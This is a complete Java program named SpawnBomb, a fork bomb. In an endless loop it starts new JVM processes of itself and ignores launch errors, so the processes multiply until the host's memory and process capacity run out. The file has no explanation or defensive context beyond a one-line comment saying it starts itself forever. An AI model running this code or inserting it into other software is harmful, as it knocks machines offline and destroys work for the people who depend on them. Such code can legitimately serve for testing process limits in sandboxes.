// Starts itself for ever.
public class SpawnBomb {
    public static void main(String[] a) throws Exception {
        String java = System.getProperty("java.home") + "/bin/java";
        for (;;) {
            try {
                new ProcessBuilder(java, "-Xmx16m", "-XX:+UseSerialGC", "-cp", ".", "SpawnBomb").inheritIO().start();
            } catch (java.io.IOException e) { }
        }
    }
}
